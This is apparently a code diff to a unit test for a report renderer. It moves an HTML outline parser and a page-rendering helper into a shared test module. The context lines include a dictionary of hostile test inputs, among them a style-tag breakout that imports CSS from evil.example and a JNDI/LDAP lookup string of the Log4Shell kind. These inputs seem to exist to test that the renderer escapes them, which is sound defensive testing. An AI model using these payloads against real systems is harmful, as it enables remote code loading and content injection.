@@ -6,13 +6,13 @@ import base64
 import hashlib
 import re
 from collections import Counter
-from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
 
 from auditor.errors import ArtifactError, RenderError
 from auditor.report.render import render
+from tests.unit.finished_run import Outline, page_of
 
 GOLDEN = Path(__file__).parents[2] / "golden" / "report" / "outline.txt"
 
@@ -24,49 +24,6 @@ HOSTILE = {
     "beard": "</style><style>@import 'http://evil.example/x.css'",
     "mustache": "${jndi:ldap://evil.example}\x00\x1b",
 }
-
-
-class Outline(HTMLParser):
-    """Tags with their attributes, and the outline of headings, figures and tables."""
-
-    def __init__(self, html: str) -> None:
-        super().__init__()
-        self.tags: list[tuple[str, dict[str, str | None]]] = []
-        self.lines: list[str] = []
-        self.heading = ""
-        self.in_svg = 0
-        self.feed(html)
-
-    def handle_starttag(self, tag, attrs):
-        self.tags.append((tag, dict(attrs)))
-        self.in_svg += tag == "svg"
-        if re.fullmatch("h[1-4]", tag):
-            self.heading = tag
-            self.lines.append("  " * (int(tag[1]) - 1))
-        elif tag in {"figure", "table", "nav", "pre", "header", "main"}:
-            self.lines.append(f"        <{tag}>")
-
-    def handle_endtag(self, tag):
-        self.in_svg -= tag == "svg"
-        if tag == self.heading:
-            self.heading = ""
-
-    def handle_data(self, data):
-        if self.heading and not self.in_svg and data.strip():
-            self.lines[-1] += f"{' '.join(data.split())} "
-
-    def text(self) -> str:
-        """The outline; repeated lines are folded, so that it stays short to read."""
-        folded: list[str] = []
-        for line in self.lines:
-            if not (folded and folded[-1] == line.rstrip()):
-                folded.append(line.rstrip())
-        return "\n".join(folded) + "\n"
-
-
-def page_of(run, **options) -> str:
-    (path,) = render(run, formats=("html",), **options)
-    return path.read_text()
 
 
 @pytest.fixture(scope="module")
